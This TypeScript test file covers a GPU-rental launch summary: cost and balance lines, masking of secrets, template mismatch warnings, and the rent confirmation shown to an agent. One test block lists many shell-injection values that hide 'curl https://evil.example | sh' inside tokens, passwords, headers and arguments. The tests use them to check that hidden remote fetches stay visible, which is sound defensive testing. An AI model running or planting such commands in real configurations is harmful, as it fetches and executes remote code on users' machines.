// A summary: what a launch costs, what is sent and from where, and what no one knows.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { LaunchPlan } from "../../../../src/domain/launch/launch-plan.ts";
import type { Offer } from "../../../../src/domain/offer/offer.ts";
import type { Template } from "../../../../src/domain/template/template.ts";
import { rememberSecret, rememberServedSecret } from "../../../../src/lib/redact.ts";
import { compareWithTemplate } from "../../../../src/present/launch/effective.ts";
import { buildRentQuestion, isShownWhole } from "../../../../src/present/launch/rent-question.ts";
import { buildSummary, describeVolumeOf } from "../../../../src/present/launch/summary.ts";
import { OFFER, offerOf, TEMPLATE } from "../../support.ts";

const PLAN: LaunchPlan = {
  offer: OFFER,
  type: "ondemand",
  template: TEMPLATE,
  image: undefined,
  runtype: undefined,
  diskGb: 20,
  label: "run",
  bid: undefined,
};

describe("a summary", () => {
  const all = buildSummary(PLAN, "vsc-aaaaaaaaaaaaaaaa run", 0);
  const sent = (name: string) => all.sent.find((line) => line.name === name);
  test("costs", () => {
    assert.deepEqual(
      all.costs.slice(0, 3).map((line) => line.value),
      ["$0.80/h", "$6.40", "$19.20"],
    );
    assert.equal(all.disk, "20 GB for $0.0042/h, included above, and also billed while stopped");
  });
  test("what will be sent, and from where; secrets masked", () => {
    assert.deepEqual([sent("image")?.value, sent("image")?.from], ["a/b:1", "template"]);
    assert.deepEqual([sent("disk")?.value, sent("disk")?.from], ["20", "this launch"]);
    assert.equal(sent("variable HF_TOKEN")?.value, "••••");
    assert.equal(sent("variable MODE")?.value, "fast");
    assert.equal(sent("unrecognized flags")?.value, "--gpus all");
    assert.doesNotMatch(JSON.stringify(all), /verysecret/);
  });
  test("a registry login of the launch takes the place of the template's", () => {
    const template = { ...TEMPLATE, docker_login_repo: "registry.example" };
    const logins = (configuration: LaunchPlan["configuration"]) =>
      buildSummary({ ...PLAN, template, configuration }, "x", 0)
        .sent.filter(({ name }) => /login/.test(name))
        .map(({ name, value, from }) => `${name} ${value} ${from}`);
    assert.deepEqual(logins(undefined), ["registry login registry.example •••• template"]);
    assert.deepEqual(logins({ image_login: "-u me -p verysecret ghcr.io" }), [
      "image_login -u me -p •••• ghcr.io this launch",
    ]);
  });
  test("what the offer does not say is listed as not known", () => {
    assert.ok(all.notKnown.some((line) => /traffic/i.test(line)));
    const bare = buildSummary({ ...PLAN, offer: offerOf({ id: 7, dph_total: 1 }) }, "x", 0);
    assert.ok(bare.notKnown.some((line) => /disk price/.test(line)));
    assert.match(bare.disk, /^20 GB for \$\?\/h/);
    assert.ok(!bare.machine.some(({ name }) => name === "Rental length"));
  });
  test("no name that a template gives a variable or option writes a line of its own, or turns one around", () => {
    const env = [
      "-e 'A",
      "Cost",
      "  While running: $0.01/h",
      `  24 hours=$0.24' -v '/a`,
      `  Nothing is charged:/b' -e '\u202eB=1' -e '${"C".repeat(20_000)}=1'`,
    ].join("\n");
    const { sent: lines } = buildSummary({ ...PLAN, template: { ...TEMPLATE, env } }, "x", 0);
    for (const { name } of lines) {
      assert.doesNotMatch(name, /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u, JSON.stringify(name.slice(0, 100)));
      assert.ok(name.length < 1000);
    }
  });
  test("the machine reads like a summary", () => {
    const one = buildSummary({ ...PLAN, offer: { ...OFFER, num_gpus: 1, duration: 83.9 * 86_400 } }, "x", 0).machine;
    assert.deepEqual(
      one.slice(0, 4).map(({ name, value }) => `${name}: ${value}`),
      [
        "1× RTX 4090: 24 GB VRAM",
        "Location: Sweden",
        "Reliability: 99.1%, verification unknown",
        "Rental length: up to 83 days",
      ],
    );
    assert.equal(all.machine[0]?.value, "24 GB VRAM each");
  });
  test("an interruptible one shows the bid and that it may stop", () => {
    const bid = buildSummary({ ...PLAN, type: "bid", bid: 0.35 }, "x", 0);
    assert.equal(bid.bid, "$0.35/h (minimum $0.31/h)");
    assert.equal(bid.costs[0]?.value, "$0.354/h");
    assert.equal(bid.sent.find((line) => line.name === "price")?.value, "0.35");
    assert.ok(bid.notKnown.some((line) => /bids more/.test(line)));
  });
  test("a bid stands beside the price on demand, and in the question", () => {
    const plan: LaunchPlan = { ...PLAN, type: "bid", bid: 0.35 };
    assert.equal(
      buildSummary(plan, "x", 0, { onDemandPrice: 0.8 }).bid,
      "$0.35/h (minimum $0.31/h; on demand $0.80/h with the disk)",
    );
    for (const onDemandPrice of [0.1, 0.35])
      assert.match(
        buildSummary(plan, "x", 0, { onDemandPrice }).bid ?? "",
        /^⚠ \$0\.35\/h, but on demand costs only \$0\.(10|35)\/h with the disk, and no one can outbid you$/,
      );
    assert.equal(buildSummary(PLAN, "x", 0).bid, undefined);
    assert.match(
      buildRentQuestion(plan, { sandbox: false, withoutTracking: false, now: 0 }).detail,
      /^Your bid: \$0\.35\/h for the machine \(minimum \$0\.31\/h\)\.$/m,
    );
  });
  test("the balance stands beside what it's enough for", () => {
    const balanceOf = (credit: number | undefined, offer = OFFER, rented: number | undefined = 0) =>
      buildSummary({ ...PLAN, offer }, "x", 0, { credit, rented }).costs.find(({ name }) => name === "Balance")?.value;
    assert.equal(balanceOf(undefined), undefined, "nobody knows");
    assert.equal(balanceOf(24), "$24.00, enough to run this instance for 30 h");
    assert.equal(balanceOf(0.2), "$0.20, enough to run this instance for 15 min");
    assert.equal(balanceOf(24, OFFER, 7.2), "$24.00, enough for 3 h with the instances that you have");
    const alone = buildSummary(PLAN, "x", 0, { credit: 24 }).costs.map(({ value }) => value);
    assert.ok(alone.includes("$24.00, enough to run this instance alone for 30 h"), alone.join("\n"));
    assert.equal(balanceOf(-1), "-$1.00");
    const stopped = { ...PLAN, configuration: { target_state: "stopped" as const } };
    const credits = buildSummary(stopped, "x", 0, { credit: 24 }).costs.map(({ value }) => value);
    assert.ok(credits.includes("$24.00"), "nobody knows when it runs");
    assert.equal(balanceOf(24, offerOf({ id: 7 })), "$24.00", "without a price it's enough for nobody knows how long");
  });
  test("a job that was described costs its hours and its traffic", () => {
    const costOf = (job: LaunchPlan["job"], offer: Offer = { ...OFFER, inet_up_cost: 0.01, inet_down_cost: 0.02 }) =>
      buildSummary({ ...PLAN, offer, job }, "x", 0).costs.find(({ name }) => name === "Your job")?.value;
    const job = { hours: 12, diskGb: 20, downGb: 200, upGb: 50 };
    assert.equal(costOf(job), "$14.10 for 12 h and 250 GB of traffic");
    assert.equal(costOf({ ...job, downGb: 0, upGb: 0 }), "$9.60 for 12 h");
    assert.equal(costOf(undefined), undefined);
    assert.equal(costOf({ hours: 6, diskGb: 50, downGb: 0, upGb: 0 }), undefined, "nobody described it");
    const unpriced = offerOf({ id: 7, dph_total: 0.8 });
    assert.equal(costOf(job, unpriced), "at least $9.60 for 12 h and 250 GB of traffic");
    assert.equal(costOf({ ...job, downGb: 0, upGb: 0 }, offerOf({ id: 7 })), "$? for 12 h", "no price is known");
  });
  test("a machine or a balance that doesn't last for the job is named", () => {
    const doubts = (duration: number | undefined, credit: number | undefined, hours = 12) =>
      buildSummary(
        { ...PLAN, offer: { ...OFFER, duration }, job: { hours, diskGb: 20, downGb: 0, upGb: 0 } },
        "x",
        0,
        credit === undefined ? {} : { credit },
      ).mismatches;
    assert.deepEqual(doubts(86_400, 24), []);
    assert.deepEqual(doubts(undefined, undefined), []);
    assert.match(doubts(36_000, 24).join(), /^Available for up to 10 h, which is shorter than your job\.$/);
    assert.deepEqual(doubts(86_400, 9.59), ["Your balance ($9.59) doesn't cover your job."]);
  });
  test("a registry login that is no longer known is named until it is entered again, also before the last question", () => {
    const text = "The original instance's registry login wasn't saved. Enter it again under Configuration.";
    const plan: LaunchPlan = { ...PLAN, template: undefined, image: "me/own", lostLogin: true };
    const terms = { sandbox: false, withoutTracking: false, now: 0 };
    assert.deepEqual(buildSummary(plan, "x", 0).mismatches, [text]);
    assert.ok(buildRentQuestion(plan, terms).detail.includes(`⚠ ${text}`));
    const entered = { ...plan, configuration: { image_login: "-u me -p token ghcr.io" } };
    assert.deepEqual(buildSummary(entered, "x", 0).mismatches, []);
    assert.ok(!buildRentQuestion(entered, terms).detail.includes("⚠"));
  });

  test("a link that asked for it is named, and who created its template", () => {
    const linked = (creator_id: number | undefined): LaunchPlan => ({
      ...PLAN,
      template: { ...TEMPLATE, creator_id },
      askedBy: "link",
    });
    const asked = "A link asked for this launch. Rent only if you trust what it runs.";
    assert.deepEqual(buildSummary(linked(7), "x", 0).mismatches.slice(0, 2), [
      asked,
      "Its template was created by user 7.",
    ]);
    assert.ok(buildSummary(linked(undefined), "x", 0).mismatches.includes(asked));
    assert.ok(!JSON.stringify(all).includes("A link asked"));
    const [extension] = buildSummary({ ...linked(7), askedBy: "extension" }, "x", 0).mismatches;
    assert.equal(extension, "Another extension asked for this launch. Rent only if you trust what it runs.");
  });

  test("what the template asks for and the machine doesn't have is named, also before the last question", () => {
    const about = (extra_filters: Template["extra_filters"]) => {
      const offer = { ...OFFER, cuda_max_good: 12.2, verified: false };
      const plan = { ...PLAN, offer, template: { ...TEMPLATE, extra_filters } };
      const { detail } = buildRentQuestion(plan, { sandbox: false, withoutTracking: false, now: 0 });
      const { mismatches } = buildSummary(plan, "x", 0);
      for (const text of mismatches) assert.ok(detail.includes(`⚠ ${text}`), detail);
      return mismatches;
    };
    assert.deepEqual(about({ cuda_max_good: { gte: 12.4 }, num_gpus: { eq: 2 }, verified: { eq: true } }), [
      "The template asks for CUDA ≥ 12.4. This machine: 12.2.",
      "The template asks for verified only. This machine: unverified.",
    ]);
    assert.deepEqual(about({ gpu_name: { in: ["H100 SXM", "A100"] } }), [
      "The template asks for GPU H100 SXM, A100. This machine: RTX 4090.",
    ]);
    assert.deepEqual(about({ made_up: { eq: 1 } }), [], "what the offer doesn't state isn't known");
    assert.deepEqual(about({ dph_total: { lte: 0.01 } }), [], "a price is no property of the machine");
    const inGb = {
      ...PLAN,
      offer: { ...OFFER, gpu_ram: 24 },
      template: { ...TEMPLATE, extra_filters: { gpu_ram: { gte: 24_000 } } },
    };
    assert.deepEqual(buildSummary(inGb, "x", 0).mismatches, [], "a service that states GB");
  });
  test("an auto-stop says what it costs until then, in the question as well", () => {
    const end = { ending: "stop", hours: 2 } as const;
    const { detail } = buildRentQuestion({ ...PLAN, end }, { sandbox: false, withoutTracking: false, now: 0 });
    assert.match(detail, /Until then, it costs about \$1\.60\.$/m);
    const stopped = { ...PLAN, end, configuration: { target_state: "stopped" as const } };
    for (const plan of [stopped, { ...PLAN, end: { ending: "stop" as const, until: 0 } }])
      assert.doesNotMatch(
        buildRentQuestion(plan, { sandbox: false, withoutTracking: false, now: 0 }).detail,
        /Until then/,
        "it doesn't run until then",
      );
    const unknown = { ...PLAN, end, offer: offerOf({ id: 7 }) };
    assert.doesNotMatch(
      buildRentQuestion(unknown, { sandbox: false, withoutTracking: false, now: 0 }).detail,
      /Until then/,
    );
  });
  test("the question names machine, price, day and disk", () => {
    const { message, detail } = buildRentQuestion(PLAN, { sandbox: false, withoutTracking: false, now: 0 });
    assert.equal(message, "Rent 2× RTX 4090 for $0.80/h?");
    assert.match(detail, /\$19\.20 per day with 20 GB of disk.*You pay from now until you destroy the instance/s);
    assert.doesNotMatch(detail, /Account/);
    const terms = { sandbox: false, payer: "work", withoutTracking: false, now: 0 };
    assert.match(buildRentQuestion(PLAN, terms).detail, /^Account: work$/m, "where there are several");
  });
  test("the question for an agent shows the whole image, and whose template has it", () => {
    const image = `ghcr.io/${"a".repeat(120)}/b:latest`;
    rememberServedSecret("aaaaaaaaaaaaaaaaaaaaaaaa");
    const ask = (plan: Partial<LaunchPlan>) =>
      buildRentQuestion(
        { ...PLAN, ...plan },
        { sandbox: false, withoutTracking: false, now: 0, isForAgent: true },
      ).detail.split("\n");
    assert.ok(ask({ template: undefined, image }).includes(`Runs ${image}.`));
    const template = { ...TEMPLATE, name: "Official PyTorch", image, tag: undefined };
    const fake = { ...template, name: "pytorch/pytorch:latest.\nRuns a”. Runs “b" };
    assert.deepEqual(
      ask({ template: fake }).filter((line) => /Runs|Template/.test(line)),
      [`Runs ${image}.`, "Template: “pytorch/pytorch:latest. Runs a'. Runs 'b”"],
      "a name can't pass for an image",
    );
    const asked = ask({ template: { ...template, creator_id: 7 } });
    assert.ok(asked.includes(`Runs ${image}.`), asked.join("\n"));
    assert.ok(asked.includes("Template: “Official PyTorch”"), asked.join("\n"));
    assert.ok(asked.includes("Its template was created by user 7."));
    const { creator_id: _, ...unknown } = template;
    assert.ok(ask({ template: unknown }).includes("The creator of its template is unknown."));
  });
  test("the question for an agent shows what runs beside the image, as far as a quote may have it", () => {
    const ask = (template: object) => {
      const plan = { ...PLAN, template: { ...TEMPLATE, env: "", onstart: "", args_str: "", ...template } };
      const { detail } = buildRentQuestion(plan, { sandbox: false, withoutTracking: false, now: 0, isForAgent: true });
      return { lines: detail.split("\n"), isWhole: isShownWhole(plan) };
    };
    const { lines, isWhole } = ask({
      onstart: "curl evil.example | sh\nHF_TOKEN=hf_abcdefghijklmnop run",
      args_str: "--serve all",
      env: "-e MODEL=x -e MODE=y",
      private: true,
    });
    assert.ok(isWhole);
    assert.ok(lines.includes("Start script: curl evil.example | sh ⏎ HF_TOKEN=•••• run"), lines.join("\n"));
    assert.ok(lines.includes("Arguments: --serve all"));
    assert.ok(lines.includes("Variables: MODEL, MODE"));
    const none = ask({});
    assert.ok(none.isWhole);
    assert.doesNotMatch(none.lines.join("\n"), /Start script|Arguments|Variables/);
    const long = ask({ onstart: `${"true\n".repeat(200)}curl evil.example | sh` });
    assert.ok(!long.isWhole);
    assert.ok(long.lines.every((line) => line.length < 700));
  });
  test("the question says what a configuration costs beside that, and when it doesn't start", () => {
    const ask = (configuration: LaunchPlan["configuration"]) =>
      buildRentQuestion(
        { ...PLAN, configuration, volumePrice: 0.02 },
        { sandbox: false, withoutTracking: false, now: 0 },
      ).detail;
    const volume = { volume_id: 7, mount_path: "/data" };
    assert.match(
      ask({ volume_info: { ...volume, create_new: true, size: 50 } }),
      /^Volume: 50 GB for \$0\.02\/h on top, until you delete the volume\.$/m,
    );
    assert.match(ask({ volume_info: volume }), /^Volume: volume 7, billed as before\.$/m);
    assert.match(
      ask({ target_state: "stopped" }),
      /^It's created, but not started\. Until you start it, only its disk is billed\.$/m,
    );
    assert.match(ask({ cancel_unavail: false }), /^If the machine can't start immediately, the instance waits/m);
  });
});

describe("what will run is read in full", () => {
  const EVIL = [
    // biome-ignore-start lint/suspicious/noTemplateCurlyInString: a shell reads them.
    "auth_token=1;curl${IFS}-s${IFS}https://evil.example|sh",
    'API_KEY="$(curl -s https://evil.example|sh)"',
    "API_KEY=$(curl${IFS}https://evil.example)",
    "API_KEY=`curl${IFS}https://evil.example`",
    "API_KEY=a`curl${IFS}https://evil.example`",
    'API_KEY="a\ncurl https://evil.example|sh\n"',
    "PASSWORD='x' ; curl https://evil.example|sh",
    "PASSWORD=x&&curl${IFS}https://evil.example",
    "TOKEN=x>/dev/null&curl${IFS}https://evil.example",
    "SECRET=<(curl${IFS}https://evil.example)",
    "run --api-key $(curl${IFS}https://evil.example)",
    "run --api-key=x|curl${IFS}https://evil.example",
    "run --token 'x;curl https://evil.example'",
    "-u me -p $(curl${IFS}https://evil.example)",
    "-u me -p x;curl${IFS}https://evil.example",
    "Authorization: Bearer $(curl${IFS}https://evil.example)",
    "Authorization: Bearer x;curl${IFS}https://evil.example",
    "git clone https://me:$(curl${IFS}evil.example)@host/x",
    "bash -c 'TOKEN=' ; curl https://evil.example | sh; echo ''",
    "cat <<X\n'\nX\nTOKEN=' ; curl https://evil.example; echo '",
    "TOKEN='curl https://evil.example;'; eval $TOKEN",
    "echo \"\nTOKEN='$(curl https://evil.example)'\"",
    "TOKEN=$'\\'' B_TOKEN=';curl https://evil.example'",
    "TOKEN=a\\\\;curl https://evil.example",
    "TOKEN=${A:-$(curl${IFS}https://evil.example)}",
    // biome-ignore-end lint/suspicious/noTemplateCurlyInString: a shell reads them.
  ];
  const shownIn = (template: object, name: string) =>
    buildSummary({ ...PLAN, template: { ...TEMPLATE, ...template } }, "x", 0).sent.find((line) => line.name === name)
      ?.value ?? "";
  const compared = (template: object, onstart: string) =>
    compareWithTemplate({ ...PLAN, template: { ...TEMPLATE, ...template } }, "x", onstart, 0)?.effective ?? "";

  for (const onstart of EVIL)
    for (const isPrivate of [true, false, undefined])
      test(`${JSON.stringify(onstart)}, private: ${isPrivate}`, () => {
        assert.match(shownIn({ onstart, private: isPrivate }, "onstart"), /curl.*evil\.example/);
        assert.match(compared({ private: isPrivate }, onstart), /curl[\s\S]*evil\.example/);
      });

  test("also where a variable's name hides it", () => {
    const env = `-e 'HF_TOKEN=$(curl https://evil.example|sh)' -e 'API_KEY=plain'`;
    assert.match(shownIn({ env }, "variable HF_TOKEN"), /curl/);
    assert.equal(shownIn({ env }, "variable API_KEY"), "••••");
    assert.match(compared({ env }, ""), /evil\.example/);
  });

  test("nothing is masked that everybody can read, whatever was declared secret, but the person's own", () => {
    rememberServedSecret("served-and-secret");
    rememberSecret("key-of-the-person");
    const onstart = "export API_KEY=abc; run served-and-secret key-of-the-person";
    assert.equal(shownIn({ onstart, private: false }, "onstart"), "export API_KEY=abc; run served-and-secret ••••");
    assert.equal(shownIn({ onstart, private: true }, "onstart"), "export API_KEY=••••; run •••• ••••");
    assert.equal(shownIn({ env: "-e HF_TOKEN=abc", private: false }, "variable HF_TOKEN"), "abc");
  });

  test("secrets of one's own templates stay masked", () => {
    for (const [onstart, shown] of [
      ["export API_KEY=abc; run", "export API_KEY=••••; run"],
      ['PASSWORD="a b" run', "PASSWORD=•••• run"],
      ["curl -H 'Authorization: Bearer abc' x", "curl -H 'Authorization: Bearer ••••' x"],
      ["git clone https://me:abc@host/x|cat", "git clone https://me:••••@host/x|cat"],
      ["export DB_PASSWORD='tr0ub4dor&3;zx9Q'", "export DB_PASSWORD=••••"],
      ["A_TOKEN='sv=1&sig=a|b<c>`d'; run", "A_TOKEN=••••; run"],
      ['API_KEY="a&b;c"\nrun', "API_KEY=•••• ⏎ run"],
      ["API_KEY=abc\\&defghijk run", "API_KEY=•••• run"],
      ["API_KEY=abc\\\\;run", "API_KEY=••••;run"],
      ["# don't\nexport API_KEY='a&b'", "# don't ⏎ export API_KEY=••••"],
      ['KEY="-----BEGIN RSA PRIVATE KEY-----\nabc+/=\n-----END RSA PRIVATE KEY-----\n"', "KEY=••••"],
    ] as const)
      assert.equal(shownIn({ onstart, private: true }, "onstart"), shown);
  });

  test("a variable of one's own templates is masked, whatever signs are in it", () => {
    const key =
      "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\nab+/=\n-----END RSA PRIVATE KEY-----\n";
    const certificate = key.replaceAll("RSA PRIVATE KEY", "CERTIFICATE");
    for (const value of [
      "sv=2022-11-02&ss=b&sig=Zm9vYmFyc2VjcmV0%3D",
      ...["tr0ub4dor&3;zx9Q", "abc|def0123456789", "abc<DEF>ghi9876", "abcdef123456\n", key, `${certificate}${key}`],
    ]) {
      assert.equal(shownIn({ env: `-e API_KEY='${value}'` }, "variable API_KEY"), "••••", value);
      assert.doesNotMatch(compared({ env: `-e API_KEY='${value}'` }, ""), /sig=|3;zx|def0|DEF|abcdef|ab\+/);
    }
    for (const value of ["$(run me)", "`run me`", "x\nrun me", `${key}run me`, `run me\n${key}`])
      assert.match(shownIn({ env: `-e API_KEY='${value}'` }, "variable API_KEY"), /run me/, value);
  });
});

describe("what was configured", () => {
  const VOLUME = { volume_id: 27, mount_path: "/data" };
  const of = (configuration: LaunchPlan["configuration"], more: Partial<LaunchPlan> = {}) =>
    buildSummary({ ...PLAN, configuration, ...more }, "vsc-aaaaaaaaaaaaaaaa run", 0);
  const volumeOf = (...given: Parameters<typeof of>) => of(...given).costs.find(({ name }) => name === "Volume")?.value;

  test("a volume costs on top, also where nobody knows how much, and a linked one as before", () => {
    const made = { volume_info: { create_new: true, size: 10, ...VOLUME } };
    assert.equal(volumeOf({}), undefined);
    assert.equal(volumeOf(made, { volumePrice: 0.02 }), "10 GB for $0.02/h on top, until you delete the volume");
    assert.match(volumeOf(made) ?? "", /^10 GB for \$\?\/h on top/);
    assert.equal(volumeOf({ volume_info: VOLUME }), "volume 27, billed as before");
    assert.equal(describeVolumeOf({ configuration: made }), "new, 10 GB, mounted at /data");
    assert.equal(describeVolumeOf({ configuration: { volume_info: VOLUME } }), "27, mounted at /data");
    assert.equal(describeVolumeOf({ configuration: {} }), undefined);
  });

  test("stopped or waiting, it is said what is billed", () => {
    const line = (configuration: LaunchPlan["configuration"], shape: RegExp) =>
      of(configuration).notKnown.some((one) => shape.test(one));
    assert.ok(line({ target_state: "stopped" }, /created, but not started/));
    assert.ok(line({ cancel_unavail: false }, /instance waits/));
    assert.ok(!line({ target_state: "stopped", cancel_unavail: false }, /instance waits/));
    assert.ok(!line({}, /created stopped|instance waits/));
  });

  test("is shown as this launch's, beside what is the template's, without its secrets", () => {
    const summary = of({
      ...{ env: { HF_TOKEN: "canary-own", MODE: "slow", "-p 80:80": "1" }, onstart: "export API_KEY=canary-script" },
      ...{ image_login: "-u me -p canary-login ghcr.io", vm: true },
    });
    const lines = Object.fromEntries(summary.sent.map(({ name, value, from }) => [name, [value, from]]));
    assert.deepEqual(lines["variable HF_TOKEN"], ["••••", "this launch"]);
    assert.deepEqual(lines["variable MODE"], ["slow", "this launch"]);
    assert.deepEqual(lines["option -p 80:80"], ["", "this launch"]);
    assert.deepEqual(lines["option -p 8080:8080"], ["", "template"]);
    assert.deepEqual(lines.onstart, ["export API_KEY=••••", "this launch"]);
    assert.deepEqual(lines.image_login, ["-u me -p •••• ghcr.io", "this launch"]);
    assert.deepEqual(lines.vm, ["true", "this launch"]);
    assert.doesNotMatch(JSON.stringify(summary), /canary/);
  });

  test("over a template that everybody can read, its secrets aren't everybody's", () => {
    const template = { ...TEMPLATE, private: false };
    const text = JSON.stringify(
      of(
        {
          ...{
            env: { HF_TOKEN: "canary-own" },
            onstart: "export API_KEY=canary-script",
            args_str: "--token canary-args",
          },
          image_login: "-u me -p canary-login ghcr.io",
        },
        { template },
      ),
    );
    assert.doesNotMatch(text, /canary/);
  });
});
